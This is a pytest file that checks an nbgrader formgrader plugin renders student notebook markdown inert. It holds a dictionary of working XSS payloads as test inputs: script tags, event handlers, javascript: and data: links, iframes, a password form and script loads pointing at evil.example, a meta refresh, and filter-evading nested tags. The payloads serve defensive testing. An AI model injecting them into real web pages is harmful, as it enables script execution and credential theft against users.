"""Markdown of a learner's in the formgrader: shown, with its formulas and lists, and never obeyed."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbgrader.server_extensions.formgrader import handlers
from traitlets.config import Config
from traitlets.config.loader import PyFileConfigLoader

from autograder.nbgrader_plugins.markdown import inert_markdown

from .pages import Inspector

ACTING = {
    "a script": "<script>alert(1)</script>",
    "a script in a paragraph": "text <script src=//evil.example/x.js></script> text",
    "a handler": "<img src=x onerror=alert(1)> <details ontoggle=alert(1) open>",
    "a link that runs": "[x](javascript:alert(1)) <javascript:alert(1)> <a href='java\nscript:alert(1)'>x</a>",
    "a link of data": "[x](data:text/html,<script>alert(1)</script>)",
    "a picture from elsewhere": "![x](https://evil.example/seen.png) <img src='https://evil.example/seen.png'>",
    "a picture that breaks out": '![x](x" onerror="alert(1))',
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "a form": "<form action=//evil.example><input name=password></form><button formaction=javascript:x>x</button>",
    "a style": "<style>body { display: none }</style><link rel=stylesheet href=//evil.example><b style=x>",
    "a drawing": "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg><math href='javascript:x'>",
    "a base": "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "markup in code": "```<script>alert(1)</script>\n<script>alert(2)</script>\n```\n`<script>`",
    "an unfinished element": "<script <img src=x onerror=alert(1)//",
    "a nested one": "<scr<script>ipt>alert(1)</scr</script>ipt>",
}


@pytest.mark.parametrize("source", ACTING.values(), ids=ACTING)
def test_what_could_act_is_only_shown(source: str) -> None:
    page = Inspector(inert_markdown(source))
    assert page.acting == []
    assert not {"img", "style", "meta", "svg", "math", "input", "button"} & set(map(str, page.found))
    assert "evil.example" not in str([value for _, _, value in filter(_is_address, page.found)])


def _is_address(found: Any) -> bool:
    return isinstance(found, tuple)


@pytest.mark.parametrize("macro", ["href", "require", "def", "style", "newcommand"])
def test_a_formula_cannot_link_load_or_redefine(macro: str) -> None:
    shown = inert_markdown(f"$\\{macro}{{x}}{{y}} + \\frac{{x}}{{y}}$")
    assert f"${macro}" in shown
    assert "\\frac" in shown


KEPT = """
# A

- **b** $\\frac{x}{y} < 1$

| c | d |
| - | - |
| 1 | [e](https://example.org) |

<details><summary>f</summary>g</details>
"""
PARTS = (
    "<h1>",
    "<li>",
    "<strong>b</strong>",
    "\\frac{x}{y} &lt; 1",
    "<table>",
    'href="https://example.org"',
    "<summary>",
)


@pytest.mark.parametrize("part", PARTS)
def test_what_markdown_is_for_is_kept(part: str) -> None:
    assert part in inert_markdown(KEPT)


def test_the_formgrader_renders_markdown_with_it(repository: Path) -> None:
    """With nbgrader's own template and this course's configuration, as the formgrader makes its exporter."""
    config: Config = PyFileConfigLoader("nbgrader_config.py", path=str(repository)).load_config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    marks = {"grade": True, "solution": True, "locked": False, "grade_id": "x", "points": 1, "schema_version": 3}
    cells = [
        nbformat.v4.new_markdown_cell("<script>own()</script>"),
        nbformat.v4.new_markdown_cell("<script>own()</script>"),
    ]
    cells[1]["metadata"]["nbgrader"] = marks
    cells += [
        nbformat.v4.new_raw_cell("<script>own()</script>"),
        nbformat.v4.new_code_cell("'</script><script>own()</script>'"),
    ]
    names = (
        "assignment_id",
        "notebook_id",
        "submission_id",
        "base_url",
        "student",
        "last_name",
        "first_name",
        "notebook_path",
    )
    resources: dict[str, Any] = {**dict.fromkeys(names, ""), "index": 0, "total": 1}
    notebook = nbformat.v4.new_notebook(cells=cells)
    page, _ = HTMLExporter(config=config).from_notebook_node(notebook, resources=resources)
    assert "<script>own()" not in page
    assert page.count("&lt;script&gt;own()") >= 2
